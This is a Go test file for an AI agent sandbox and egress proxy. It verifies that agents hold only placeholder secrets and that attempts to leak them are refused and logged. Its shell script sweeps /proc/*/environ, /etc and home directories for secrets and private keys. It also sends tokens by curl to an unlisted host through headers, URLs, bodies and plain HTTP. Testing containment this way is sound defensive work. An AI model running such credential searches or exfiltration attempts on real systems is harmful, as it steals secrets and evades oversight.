package escape

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/batonhq/baton/config"
	"github.com/batonhq/baton/internal/testenv"
)

// The secrets profile's second name for the test host: a host that one
// secret is for and the others are not.
const escapeOtherName = "other.escape.test"

// escapeSecretMarker ends every secret value of the secrets profile: the
// agent looks for it in what it can read, without its script, or any
// command line, holding it whole.
const escapeSecretMarker = "baton-test-secret-value"

// escapeSecrets is the secrets profile's side of the test host: an HTTPS
// server on it, with a certificate of a CA the worker's profile names as
// its upstreamCA, recording what each request carried.
type escapeSecrets struct {
	port   int
	values map[string]string // by secret name
	mu     sync.Mutex
	seen   []string // method, URL, headers and body of each whole request
}

func (s *escapeSecrets) requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.seen...)
}

// newEscapeSecrets serves HTTPS on the test host and adds the profile
// "secrets" to cfg: /bin/sh -c, three secrets (x-api-key and Basic for
// escapeName, Bearer for escapeOtherName; from a value, a file and the
// worker's environment).
func newEscapeSecrets(t *testing.T, host *testenv.TestHost, cfg *config.Config) *escapeSecrets {
	t.Helper()
	s := &escapeSecrets{values: map[string]string{}}
	for _, name := range []string{"API_KEY", "GIT_TOKEN", "OTHER_KEY"} {
		b := make([]byte, 12)
		_, _ = rand.Read(b)
		s.values[name] = "sk-" + hex.EncodeToString(b) + "-" + escapeSecretMarker
	}
	dir := t.TempDir()
	tokenFile := filepath.Join(dir, "git-token")
	if err := os.WriteFile(tokenFile, []byte(s.values["GIT_TOKEN"]+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("BATON_TEST_OTHER_KEY", s.values["OTHER_KEY"])

	var caFile string
	s.port, caFile = serveTestHostTLS(t, host, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return // a request the proxy cut
		}
		// git sends its credential once challenged.
		if strings.HasSuffix(r.URL.Path, "/info/refs") && r.Header.Get("Authorization") == "" {
			rw.Header().Set("WWW-Authenticate", `Basic realm="test"`)
			rw.WriteHeader(http.StatusUnauthorized)
			return
		}
		var h strings.Builder
		_ = r.Header.Write(&h)
		s.mu.Lock()
		s.seen = append(s.seen, r.Method+" "+r.Host+r.RequestURI+"\n"+h.String()+"\n"+string(body))
		s.mu.Unlock()
		fmt.Fprintf(rw, "%s %s over %s", r.Method, r.URL.Path, r.Proto)
	}), escapeName, escapeOtherName)

	cfg.Profiles["secrets"] = config.Profile{Command: []string{"/bin/sh", "-c"}, AllowArgs: config.AnyArgs, Timeout: 2 * time.Minute,
		Limits: config.Limits{Pids: escapePids},
		Network: config.Network{
			Allow: []string{escapeName, escapeOtherName, host.Prefix.String()},
			Hosts: map[string]string{escapeName: host.Addr.String(), escapeOtherName: host.Addr.String()},
		},
		Secrets: map[string]config.Secret{
			"API_KEY":   {Value: s.values["API_KEY"], Hosts: []string{escapeName}, Header: "x-api-key"},
			"GIT_TOKEN": {File: tokenFile, Hosts: []string{escapeName}, Header: "basic"},
			"OTHER_KEY": {Env: "BATON_TEST_OTHER_KEY", Hosts: []string{escapeOtherName}, Header: "authorization"},
		},
		UpstreamCA: caFile,
	}
	return s
}

// serveTestHostTLS serves handler over HTTPS (HTTP/1.1) on the test host
// with a certificate for names, signed by a CA made for the test. It
// returns the port and the CA's PEM file, a profile's upstreamCA.
func serveTestHostTLS(t *testing.T, host *testenv.TestHost, handler http.Handler, names ...string) (int, string) {
	t.Helper()
	caPEM, cert := escapeTestCA(t, names...)
	caFile := filepath.Join(t.TempDir(), "upstream-ca.pem")
	if err := os.WriteFile(caFile, caPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	l, err := testenv.ListenIn(host.NetNS, net.JoinHostPort(host.Addr.String(), "0"))
	if err != nil {
		t.Fatalf("listen in %s: %v", host.NetNS, err)
	}
	srv := &http.Server{Handler: handler, TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}},
		ErrorLog: log.New(io.Discard, "", 0)}
	go func() { _ = srv.Serve(tls.NewListener(l, srv.TLSConfig)) }()
	t.Cleanup(func() { _ = srv.Close() })
	return l.Addr().(*net.TCPAddr).Port, caFile
}

// escapeTestCA is a CA's certificate (PEM) and a server certificate it
// signed for names.
func escapeTestCA(t *testing.T, names ...string) ([]byte, tls.Certificate) {
	t.Helper()
	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "baton test upstream CA"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, ca, ca, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	leaf := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names,
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, leaf, ca, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}),
		tls.Certificate{Certificate: [][]byte{der, caDER}, PrivateKey: key}
}

// secretSearch is shell lines an agent runs in its sandbox to look for a
// secret's value (every test secret ends with escapeSecretMarker) and a
// private key wherever it can read them, and to show the placeholders in
// the environment of every process it can read, with controls that the
// search works. No line holds the marker or a key's header whole, so
// neither the script nor a copy of it (an agent's transcript) is found.
const secretSearch = `M1=baton-test-secret
printf '%s-value\n' "$M1" > /dev/shm/pattern
K=PRIVATE
for f in $(grep -rlsa -f /dev/shm/pattern /etc /home /workspace /tmp /run /proc/self/environ /proc/[0-9]*/environ /proc/[0-9]*/cmdline); do echo "value in $f"; done
for f in $(grep -rlsa -e "$K KEY" /etc /home /workspace /tmp /run /proc/[0-9]*/environ); do echo "key in $f"; done
for f in /proc/[0-9]*/environ; do tr '\0' '\n' 2>/dev/null < $f | grep '^[A-Z_]*=baton-secret-'; done | sort -u | sed 's/^/placeholder: /'
grep -lsa -f /dev/shm/pattern /dev/shm/pattern | sed 's/^/control: the search finds the marker in /'
grep -lsa -e "BEGIN CERTIFICATE" /etc/baton-egress-ca.pem | sed 's/^/control: found the CA certificate in /'`

// checkSecretSearch checks what secretSearch printed, in out: no value
// and no key found, the controls found, and the secret named secret a
// placeholder in some process's environment.
func checkSecretSearch(t *testing.T, out, secret string) {
	t.Helper()
	lines := strings.Split(out, "\n")
	for _, want := range []string{"control: found the CA certificate in /etc/baton-egress-ca.pem", "control: the search finds the marker in /dev/shm/pattern"} {
		if !slices.Contains(lines, want) {
			t.Errorf("the agent's search printed no %s", want)
		}
	}
	placeholder := "(?m)^placeholder: " + secret + "=baton-secret-" + strings.ToLower(strings.ReplaceAll(secret, "_", "-")) + "-[0-9a-f]{32}$"
	if !regexp.MustCompile(placeholder).MatchString(out) {
		t.Errorf("the agent's search found no placeholder for %s in an environment it can read", secret)
	}
	for _, bad := range []string{"value in ", "key in "} {
		if strings.Contains(out, bad) {
			t.Errorf("ESCAPE: the agent found %q", bad)
		}
	}
}

// TestEscapeSecrets: an agent whose profile has secrets holds only their
// placeholders. Through the real sandbox and egress proxy, it calls an
// HTTPS server on the test host with them, and the server receives the
// values (x-api-key, Basic as git sends it, Bearer); the placeholder sent
// to a host not listed for it (in a header, the URL, a body) or over plain
// HTTP is refused with 403 and recorded; and nothing the agent can read,
// nor the run's journal, events or state records, holds a value or the
// run CA's key.
func TestEscapeSecrets(t *testing.T) {
	w := newEscapeWorld(t)
	s := w.secrets
	id := "secrets-egress"
	script := `set -u
CURL="curl -sS --max-time 20"
S=https://` + escapeName + `:` + strconv.Itoa(s.port) + `
O=https://` + escapeOtherName + `:` + strconv.Itoa(s.port) + `
echo "env API_KEY=$API_KEY"
echo "key: $($CURL -H "x-api-key: $API_KEY" $S/key)"
echo "git: $($CURL -u "x-access-token:$GIT_TOKEN" $S/git)"
echo "other: $($CURL -H "Authorization: Bearer $OTHER_KEY" $O/other)"
echo "leak-header=$($CURL -o /dev/null -w '%{http_code}' -H "x-api-key: $API_KEY" $O/leak-header)"
echo "leak-url=$($CURL -o /dev/null -w '%{http_code}' "$O/leak-url?k=$API_KEY")"
echo "leak-body=$($CURL -o /dev/null -w '%{http_code}' --data "k=$GIT_TOKEN" $O/leak-body)"
echo "leak-plain=$($CURL -o /dev/null -w '%{http_code}' "http://` + escapeName + `:` + strconv.Itoa(w.host.Port) + `/leak-plain?k=$OTHER_KEY")"
git ls-remote "https://x-access-token:$GIT_TOKEN@` + escapeName + `:` + strconv.Itoa(s.port) + `/repo.git" >/dev/null 2>&1
echo "trust: SSL_CERT_FILE=$SSL_CERT_FILE NODE_EXTRA_CA_CERTS=$NODE_EXTRA_CA_CERTS"
` + secretSearch + `
tr '\0' '\n' < /proc/$$/environ | grep -c '^[A-Z_]*=baton-secret-' | sed 's/^/placeholders in environ: /'
echo done`
	w.submit(map[string]any{"runId": id, "profile": "secrets", "args": []string{script}})
	r := w.wait(t, id, 90*time.Second)
	escapeSucceeded(t, r)
	out := string(r.journal)
	t.Logf("journal:\n%s", out)

	for _, want := range []string{
		"key: GET /key over HTTP/1.1", "git: GET /git over HTTP/1.1", "other: GET /other over HTTP/1.1",
		"leak-header=403", "leak-url=403", "leak-body=403", "leak-plain=403",
		"placeholders in environ: 3", "done",
	} {
		if !strings.Contains("\n"+out, "\n"+want+"\n") {
			t.Errorf("the journal lacks %s", want)
		}
	}
	if m := regexp.MustCompile(`env API_KEY=baton-secret-api-key-[0-9a-f]{32}\n`).FindString(out); m == "" {
		t.Errorf("the agent's API_KEY is not a placeholder")
	}
	checkSecretSearch(t, out, "API_KEY")
	// The server received each value in its header, and no placeholder
	// and no refused request.
	seen := strings.Join(s.requests(), "\n---\n")
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+s.values["GIT_TOKEN"]))
	// git over HTTPS: its Basic credential, with the placeholder as the
	// password, arrives with the value.
	gitOK := false
	for _, req := range s.requests() {
		gitOK = gitOK || strings.HasPrefix(req, "GET "+escapeName+":"+strconv.Itoa(s.port)+"/repo.git/info/refs?") &&
			strings.Contains(req, "\nAuthorization: "+basic+"\r\n") && strings.Contains(req, "User-Agent: git/")
	}
	if !gitOK {
		t.Errorf("git's request did not arrive with the value; the server saw:\n%s", seen)
	}
	for _, want := range []string{"X-Api-Key: " + s.values["API_KEY"], "Authorization: " + basic, "Authorization: Bearer " + s.values["OTHER_KEY"]} {
		if !strings.Contains(seen, want) {
			t.Errorf("the server never received %q; it saw:\n%s", want, seen)
		}
	}
	if strings.Contains(seen, "baton-secret-") || strings.Contains(seen, "/leak") {
		t.Errorf("the server saw a placeholder or a refused request:\n%s", seen)
	}
	if n := w.hits.get("/leak-plain"); n != 0 {
		t.Errorf("the plain HTTP leak reached the test host %d times", n)
	}
	// Each refusal is recorded, by the secret's name.
	for _, want := range []string{
		`secret API_KEY sent to a host not listed for it (` + escapeOtherName + `)`,
		`secret GIT_TOKEN sent to a host not listed for it (` + escapeOtherName + `)`,
		`secret OTHER_KEY sent over plain HTTP to ` + escapeName,
	} {
		if !strings.Contains(r.state, want) {
			t.Errorf("state.ndjson lacks the refusal %q:\n%s", want, r.state)
		}
	}
	// The chain's egress messages say which tunnel had which secrets put
	// in, and which was refused for a placeholder, by name.
	swapped := map[string]bool{}
	leakRefused := false
	for _, e := range r.egress {
		if e.Allowed && e.Host == escapeName && e.Secret != "" {
			swapped[e.Secret] = true
		}
		leakRefused = leakRefused || !e.Allowed && e.Host == escapeOtherName &&
			strings.Contains(e.Reason, "secret API_KEY sent to a host not listed for it")
	}
	if !swapped["API_KEY"] || !swapped["GIT_TOKEN"] || !leakRefused {
		t.Errorf("egress messages %+v: want tunnels to %s with API_KEY and GIT_TOKEN put in, and the API_KEY sent to %s refused", r.egress, escapeName, escapeOtherName)
	}
	// No value in what the run published or recorded; the spec holds
	// them, and is root's alone, out of the sandbox.
	spec := w.file(id, "spec.json")
	for name, v := range s.values {
		for what, text := range map[string]string{"journal": out, "events": string(r.events), "state.ndjson": r.state} {
			if strings.Contains(text, v) {
				t.Errorf("the %s holds %s's value", what, name)
			}
		}
		if !strings.Contains(spec, v) {
			t.Errorf("the spec lacks %s's value", name)
		}
	}
	specPath := filepath.Join(w.stateDir, "runs", id, "spec.json")
	for _, p := range []string{specPath, filepath.Dir(specPath)} {
		st, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if st.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s is %v: others may read it", p, st.Mode().Perm())
		}
	}
}
